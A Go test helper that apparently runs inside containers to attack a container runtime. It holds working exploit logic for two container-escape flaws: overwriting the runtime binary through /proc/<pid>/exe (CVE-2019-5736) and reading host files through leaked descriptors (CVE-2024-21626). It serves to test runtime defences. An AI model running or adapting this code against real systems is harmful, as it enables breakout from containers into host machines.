// Command attacker is what the containers of the tests of package attack execute.
package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

func main() {
	switch os.Args[1] {
	case "binary":
		overwriteBinaries()
	case "key":
		findKey(os.Args[2])
	case "seize":
		seizeNewcomers()
	case "descriptors":
		walkDescriptors(os.Args[2])
	}
}

// overwriteBinaries is CVE-2019-5736 from inside: it takes a handle to every executable that it can see a process run
// and that is not a file of the container, and writes to it when nothing executes it any more.
func overwriteBinaries() {
	fmt.Println("attacking")
	met, seen := map[int]bool{}, map[string]int{}
	for {
		entries, _ := os.ReadDir("/proc")
		for _, entry := range entries {
			pid, err := strconv.Atoi(entry.Name())
			if err != nil || pid == os.Getpid() {
				continue
			}
			if pid > os.Getpid() && !met[pid] { // it has come later
				met[pid] = true
				fmt.Println("met", pid)
			}
			path := filepath.Join("/proc", entry.Name(), "exe")
			fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			target, err := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
			// A mount of its own has no name. A memfd is the image of the process's last leg, and nobody else's.
			if err != nil || target != "/" && !strings.HasSuffix(target, "berth-runtime") || seen[target] > 20 {
				_ = unix.Close(fd)
				continue
			}
			seen[target]++
			var file unix.Stat_t
			_ = unix.Fstat(fd, &file)
			fmt.Printf("holds %d:%d\n", file.Dev, file.Ino)
			go overwrite(fd, target)
		}
	}
}

func overwrite(fd int, target string) {
	path := fmt.Sprintf("/proc/self/fd/%d", fd)
	for {
		writable, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err == unix.ETXTBSY {
			continue
		}
		_ = unix.Close(fd)
		if err == nil {
			_, err = unix.Write(writable, []byte("overwritten"))
			_ = unix.Close(writable)
		}
		fmt.Println("wrote to", target, err)
		return
	}
}

// walkDescriptors is CVE-2024-21626 from inside: it looks for a file of the host through the descriptors, the working
// directory and the root of every process that it can see.
func walkDescriptors(file string) {
	up := strings.Repeat("/..", 12)
	found := 0
	processes, _ := filepath.Glob("/proc/[0-9]*")
	for _, process := range append(processes, "/proc/self") {
		handles, _ := filepath.Glob(process + "/fd/*")
		for _, handle := range append(handles, process+"/cwd", process+"/root") {
			for _, way := range []string{handle + up + file, handle + file, handle + "/1/root" + file} {
				if content, err := os.ReadFile(way); err == nil {
					fmt.Printf("found %s: %s\n", way, content)
					found++
				}
			}
			for _, inside := range []string{"/sys/kernel/core_pattern", "/1/stat", "/sysrq-trigger"} {
				if _, err := os.Lstat(handle + inside); err == nil && !strings.HasSuffix(handle, "/root") {
					target, _ := os.Readlink(handle)
					fmt.Printf("found procfs behind %s (%s)\n", handle, target)
					found++
				}
			}
		}
	}
	fmt.Printf("%d found\n", found)
}
